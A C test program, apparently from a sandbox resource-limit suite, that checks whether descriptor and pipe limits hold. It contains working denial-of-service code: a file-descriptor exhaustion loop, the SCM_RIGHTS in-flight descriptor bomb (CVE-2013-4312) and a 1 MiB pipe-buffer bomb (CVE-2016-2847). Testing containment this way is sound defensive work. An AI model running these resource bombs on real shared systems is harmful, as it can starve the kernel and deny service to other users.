/* RES-16 fd-exhaustion: run out of descriptors and of what they hold.
 * open() until EMFILE at RLIMIT_NOFILE (--open-files 256 of the entry),
 * which cannot be raised (hard = soft: EPERM) nor passed by dup2 or
 * F_DUPFD to a high number (EBADF, EINVAL); the in-flight bomb of
 * CVE-2013-4312, each fd sent over a unix socket with SCM_RIGHTS and
 * closed, stops at ETOOMANYREFS once more fds are in flight than
 * RLIMIT_NOFILE; the pipe-buffer bomb of CVE-2016-2847, 127 pipes grown to
 * 1 MiB and filled, stops at the per-user pipe-user-pages-soft (64M here,
 * EPERM), pipe memory the memory cgroup is charged for as root.
 * Everything goes with the run. */
#include "attack.h"

#include <fcntl.h>
#include <sys/resource.h>
#include <sys/socket.h>

#define OPEN_FILES 256 /* --open-files of the entry */
#define CEILING 100000

static void close_from(int first)
{
	syscall(SYS_close_range, first, ~0U, 0);
}

int main(void)
{
	int n = 0, fd = 0;
	while (n < CEILING && (fd = open("/dev/null", O_RDONLY)) >= 0)
		n++;
	report("open-until-fail", fd, errno);
	note("%d fds opened", n);
	if (n + 3 > OPEN_FILES)
		escaped("%d fds with --open-files %d", n + 3, OPEN_FILES);
	close_from(3);

	struct rlimit rl;
	getrlimit(RLIMIT_NOFILE, &rl);
	struct rlimit same = {rl.rlim_max, rl.rlim_max};
	TRY("setrlimit-nofile-hard", setrlimit(RLIMIT_NOFILE, &same));
	struct rlimit more = {rl.rlim_max + 1, rl.rlim_max + 1};
	TRY("setrlimit-nofile-raise", setrlimit(RLIMIT_NOFILE, &more));
	TRY("dup2-high", dup2(0, 1 << 20));
	TRY("fcntl-dupfd-high", fcntl(0, F_DUPFD, 1 << 20));

	/* In flight: an fd sent and closed is still held by the socket. */
	int sv[2];
	TRY("socketpair", socketpair(AF_UNIX, SOCK_DGRAM, 0, sv));
	int sent = 0, r = 0;
	while (sent < CEILING) {
		fd = open("/dev/null", O_RDONLY);
		char data = 'x';
		struct iovec iov = {&data, 1};
		union {
			char buf[CMSG_SPACE(sizeof(int))];
			struct cmsghdr align;
		} u;
		struct msghdr msg = {.msg_iov = &iov,
				     .msg_iovlen = 1,
				     .msg_control = u.buf,
				     .msg_controllen = sizeof(u.buf)};
		struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
		c->cmsg_level = SOL_SOCKET;
		c->cmsg_type = SCM_RIGHTS;
		c->cmsg_len = CMSG_LEN(sizeof(int));
		memcpy(CMSG_DATA(c), &fd, sizeof(int));
		r = sendmsg(sv[0], &msg, MSG_DONTWAIT);
		int e = errno;
		close(fd);
		errno = e;
		if (r < 0)
			break;
		sent++;
	}
	report("scm-rights-until-fail", r, errno);
	note("%d fds in flight", sent);
	/* The kernel refuses once more than RLIMIT_NOFILE are in flight. */
	if (sent > OPEN_FILES + 1)
		escaped("%d fds in flight with --open-files %d", sent,
			OPEN_FILES);
	close_from(3);

	/* Pipes of 1 MiB, filled and never read. */
	static char mib[1 << 20];
	int pipes = 0, grown = 0, p[2];
	r = 0;
	int grow_errno = 0;
	while (pipes < CEILING && (r = pipe2(p, O_NONBLOCK)) == 0) {
		pipes++;
		if (!grow_errno && fcntl(p[1], F_SETPIPE_SZ, 1 << 20) < 0)
			grow_errno = errno;
		else if (!grow_errno)
			grown++;
		(void)!write(p[1], mib, sizeof(mib));
	}
	report("pipes-until-fail", r, errno);
	report("pipe-grow-1M-until-fail", grow_errno ? -1 : 0, grow_errno);
	note("%d pipes, %d grown to 1 MiB", pipes, grown);
	close_from(3);
	done();
	return 0;
}
